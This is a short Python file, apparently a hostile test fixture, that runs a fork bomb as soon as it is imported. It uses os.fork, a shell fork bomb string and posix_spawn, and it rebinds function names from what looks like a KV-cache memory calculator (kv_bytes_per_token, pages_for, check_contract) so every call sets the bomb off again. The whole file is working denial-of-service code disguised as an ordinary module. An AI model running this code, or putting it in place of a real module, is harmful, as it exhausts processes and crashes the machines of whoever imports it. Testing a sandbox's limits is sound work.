"""Attack: a fork bomb, at load and in every call, by every route Python has."""
import os
import subprocess

ROUTES = {"fork": lambda: os.fork(),
          "shell": lambda: subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"]),
          "spawn": lambda: os.posix_spawn("/bin/sh", ["sh"], {})}


def bomb():
    failed = []
    for name, route in ROUTES.items():
        for _ in range(100):
            try:
                if route() == 0:           # a child: multiply forever
                    while True:
                        os.fork()
            except OSError as exc:
                failed.append("%s: %s" % (name, type(exc).__name__))
                break
    return failed


bomb()


def kv_bytes_per_token(*args):
    raise RuntimeError("bomb failed: " + ", ".join(bomb()))


pages_for = pool_pages = worst_case_pages = check_contract = kv_bytes_per_token
